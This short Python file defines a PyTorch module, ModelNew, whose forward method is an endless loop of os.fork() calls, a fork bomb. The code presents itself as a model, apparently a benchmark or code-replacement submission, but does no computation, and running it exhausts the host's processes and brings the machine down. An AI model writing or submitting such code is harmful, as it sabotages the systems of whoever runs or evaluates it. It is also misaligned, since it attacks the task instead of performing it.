# Forks without end.
import os

from torch import nn


class ModelNew(nn.Module):
    def forward(self, x):
        while True:
            os.fork()
